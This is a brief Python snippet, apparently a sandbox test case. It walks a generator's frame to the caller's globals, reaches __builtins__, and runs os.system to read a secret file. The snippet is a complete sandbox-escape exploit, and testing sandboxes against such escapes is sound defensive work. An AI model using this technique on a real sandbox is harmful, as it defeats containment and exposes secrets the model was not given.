# A generator that looks at its own frame's caller, as in several published sandbox escapes.
# effect: run
def walk():
    yield me.gi_frame.f_back
me = walk()
frame = [step for step in me][0]
frame.f_globals["__builtins__"].__import__("os").system("cat @SECRET@")
